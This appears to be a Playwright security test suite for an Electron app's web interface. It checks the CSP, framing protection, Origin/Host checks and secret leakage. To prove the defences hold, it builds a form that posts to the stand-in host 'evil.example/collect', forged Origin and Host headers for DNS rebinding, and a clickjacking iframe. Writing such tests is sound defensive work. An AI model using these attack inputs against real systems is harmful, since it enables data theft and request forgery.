import { request as httpRequest, createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { channels } from '../../shared/ipc/contract';
import { sessionCookieName } from '../../electron/web/server';
import { expect, test } from './fixtures';

// The real renderer in Chromium against the real core through the web transport. The Electron-only
// rules (will-navigate, the window-open handler, permissions, the IPC sender check) are pinned by
// test/unit/main; here is what the browser and the HTTP boundary enforce themselves.

const SANDBOX_SECRET = 'sandbox_client_secret';

interface RawAnswer {
  status: number;
  body: string;
}

/** Node's http, not fetch: fetch will not send a forged Host header. */
function raw(
  origin: string,
  path: string,
  options: { method?: string; headers?: Record<string, string>; body?: string | Buffer } = {},
): Promise<RawAnswer> {
  const url = new URL(path, origin);
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      { host: url.hostname, port: url.port, path: url.pathname, method: options.method ?? 'GET', headers: options.headers },
      (res) => {
        let body = '';
        res.on('data', (chunk: Buffer) => (body += chunk.toString()));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      },
    );
    // The server may answer 413 and close before the whole body is sent.
    req.on('error', (error: NodeJS.ErrnoException) =>
      error.code === 'EPIPE' || error.code === 'ECONNRESET' ? undefined : reject(error),
    );
    req.end(options.body);
  });
}

const cookieOf = (loginUrl: string) => {
  const url = new URL(loginUrl);
  return `${sessionCookieName(Number(url.port))}=${url.searchParams.get('secret')}`;
};

test('the page gets no Node: no require, no process, no module', async ({ page }) => {
  await expect(page.getByTestId('mode')).toBeVisible();
  const globals = await page.evaluate(() => {
    const g = globalThis as Record<string, unknown>;
    return { require: typeof g.require, process: typeof g.process, module: typeof g.module, Buffer: typeof g.Buffer };
  });
  expect(globals).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined', Buffer: 'undefined' });
});

test('the CSP stops inline script, eval and new Function', async ({ page }) => {
  await expect(page.getByTestId('mode')).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const w = window as unknown as Record<string, unknown>;
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.head.append(script);
    // From a timer, not from this evaluate call: DevTools' own evaluation is exempt from the CSP.
    const { evalRan, functionRan } = await new Promise<{ evalRan: boolean; functionRan: boolean }>((resolve) =>
      setTimeout(() => {
        const attempt = (run: () => unknown) => {
          try {
            return run() === true;
          } catch {
            return false;
          }
        };
        resolve({ evalRan: attempt(() => (0, eval)('true')), functionRan: attempt(() => new Function('return true')()) });
      }, 0),
    );
    await new Promise((r) => setTimeout(r, 100));
    return { inlineRan: w.__inlineRan === true, evalRan, functionRan, violations };
  });
  expect(outcome.inlineRan).toBe(false);
  expect(outcome.evalRan).toBe(false);
  expect(outcome.functionRan).toBe(false);
  expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src']));
});

test('the CSP stops the page from talking to any other origin', async ({ page }) => {
  // A server that would answer: a failure is the CSP, not the network.
  const other: Server = createServer((_req, res) => res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('reached'));
  await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
  const otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
  let reached = 0;
  other.on('request', () => reached++);
  try {
    await expect(page.getByTestId('mode')).toBeVisible();
    const outcome = await page.evaluate(async (url) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const fetched = await fetch(url).then(
        () => 'answered',
        () => 'blocked',
      );
      const image = await new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('blocked');
        img.src = `${url}pixel.png`;
      });
      await new Promise((r) => setTimeout(r, 100));
      return { fetched, image, violations };
    }, otherUrl);
    expect(outcome.fetched).toBe('blocked');
    expect(outcome.image).toBe('blocked');
    expect(outcome.violations).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
    expect(reached).toBe(0);
  } finally {
    await new Promise((r) => other.close(r));
  }
});

test('the page cannot be framed by another site, nor post a form anywhere', async ({ page, app, browser }) => {
  // Framing: frame-ancestors 'none' (clickjacking a gate's verify button from another page).
  const framer: Server = createServer((_req, res) =>
    res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe id="f" src="${app.origin}/"></iframe>`),
  );
  await new Promise<void>((r) => framer.listen(0, '127.0.0.1', r));
  try {
    const context = await browser.newContext();
    await context.addCookies([
      {
        name: sessionCookieName(Number(new URL(app.origin).port)),
        value: cookieOf(app.loginUrl).split('=')[1]!,
        url: app.origin,
      },
    ]);
    const other = await context.newPage();
    const refused = new Promise<string>((resolve) =>
      other.on('console', (m) => /frame-ancestors/.test(m.text()) && resolve(m.text())),
    );
    await other.goto(`http://127.0.0.1:${(framer.address() as AddressInfo).port}/`);
    expect(await refused).toMatch(/frame-ancestors 'none'[\s\S]*blocked/);
    const framed = other.frames().find((f) => f !== other.mainFrame());
    const framedText = framed ? await framed.evaluate(() => document.body?.innerText ?? '').catch(() => '') : '';
    expect(framedText).not.toContain('演示模式');
    await context.close();
  } finally {
    await new Promise((r) => framer.close(r));
  }

  // Forms: form-action 'none', so even injected markup cannot send data off with a submit.
  await expect(page.getByTestId('mode')).toBeVisible();
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    const form = document.createElement('form');
    form.action = 'https://evil.example/collect';
    form.method = 'POST';
    document.body.append(form);
    form.submit();
    await new Promise((r) => setTimeout(r, 200));
    return seen;
  });
  expect(violations).toContain('form-action');
  expect(page.url()).toBe(`${app.origin}/`);
});

test('the API refuses a foreign Origin, a foreign Host, a missing cookie and an oversize body', async ({ app }) => {
  const cookie = cookieOf(app.loginUrl);
  const json = { 'Content-Type': 'application/json', Cookie: cookie };
  const call = (headers: Record<string, string>, body = '{}') =>
    raw(app.origin, '/api/invoke/app.status', { method: 'POST', headers, body });

  expect((await call(json)).status).toBe(200);
  expect((await call({ ...json, Origin: app.origin })).status).toBe(200);

  expect((await call({ ...json, Origin: 'https://evil.example' })).status).toBe(403);
  expect((await call({ ...json, Origin: 'null' })).status).toBe(403);
  // DNS rebinding: a name the attacker controls, resolving to 127.0.0.1.
  expect((await call({ ...json, Host: `evil.example:${new URL(app.origin).port}` })).status).toBe(403);
  expect((await raw(app.origin, '/', { headers: { Cookie: cookie, Host: 'evil.example' } })).status).toBe(403);

  expect((await call({ 'Content-Type': 'application/json' })).status).toBe(401);
  expect(
    (await call({ 'Content-Type': 'application/json', Cookie: `${sessionCookieName(Number(new URL(app.origin).port))}=guessed` }))
      .status,
  ).toBe(401);
  expect((await raw(app.origin, '/', {})).status).toBe(401);

  const big = JSON.stringify({ padding: 'x'.repeat(128 * 1024) });
  expect((await call(json, big)).status).toBe(413);
});

test('no channel answers with a secret, with or without a supervisor session', async ({ app }) => {
  const headers = { 'Content-Type': 'application/json', Cookie: cookieOf(app.loginUrl) };
  const invoke = (channel: string, input: unknown) =>
    raw(app.origin, `/api/invoke/${encodeURIComponent(channel)}`, { method: 'POST', headers, body: JSON.stringify(input) });

  const answers: string[] = [];
  for (const channel of channels) answers.push(`${channel} ${(await invoke(channel, {})).body}`);

  // Again inside supervisor mode, where settings and credentials live.
  const grant = JSON.parse((await invoke('supervisor.pin.set', { pin: '246810' })).body) as {
    ok: boolean;
    value: { token: string };
  };
  expect(grant.ok).toBe(true);
  for (const channel of channels) {
    if (channel === 'supervisor.lock') continue;
    answers.push(`${channel} ${(await invoke(channel, { session: grant.value.token })).body}`);
  }

  // The session really opened supervisor mode: settings (where credentials are edited) answered.
  expect(answers.some((a) => a.startsWith('supervisor.settings {"ok":true'))).toBe(true);
  for (const answer of answers) {
    expect(answer).not.toContain(SANDBOX_SECRET);
    expect(answer).not.toMatch(/clt\./);
  }
  // And the log the calls wrote holds no secret either.
  const logs = join(app.dataDir, 'logs');
  const written = (() => {
    try {
      return readdirSync(logs)
        .map((f) => readFileSync(join(logs, f), 'utf8'))
        .join('\n');
    } catch {
      return '';
    }
  })();
  expect(written).not.toContain(SANDBOX_SECRET);
  expect(written).not.toMatch(/clt\.[0-9a-f]/);
});
